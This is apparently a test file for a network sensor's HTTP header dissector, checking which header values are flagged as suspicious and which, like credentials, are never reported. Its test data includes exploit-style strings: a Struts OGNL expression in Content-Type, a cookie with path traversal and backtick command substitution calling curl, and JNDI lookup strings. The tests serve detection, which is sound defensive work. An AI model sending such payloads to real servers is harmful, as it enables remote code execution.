"""Header fields reported literally: those with content that no ordinary value has, and never a session."""

from __future__ import annotations

from sensor.dissectors._http_shape import odd_fields


def test_an_expression_in_the_content_type() -> None:
    """An expression in Content-Type, as in the Struts exploit (CVE-2017-5638), is reported; a boundary is not."""
    attack = b"%{(#_='multipart/form-data').(#cmd='id')}"
    assert odd_fields({b"content-type": attack}) == (("content-type", attack.decode()),)
    assert odd_fields({b"content-type": b"multipart/form-data; boundary=----a1"}) == ()


def test_a_cookie_with_an_exploit() -> None:
    """Only the part of a cookie with an exploit is reported; a session with quotes and braces, or a token, is not."""
    session = b'id=0123456789abcdef; prefs={"lang": "en"}'
    assert odd_fields({b"cookie": session}) == ()
    path = b"SESSID=/../../../opt/x`curl${IFS}a`"
    assert odd_fields({b"cookie": session + b"; " + path}) == (("cookie", path.decode()),)


def test_fields_that_are_never_reported() -> None:
    """Credentials are never reported, whatever they contain."""
    assert odd_fields({b"authorization": b"Basic ${jndi:ldap://a}", b"x-token": b"${jndi:ldap://a}"}) == ()
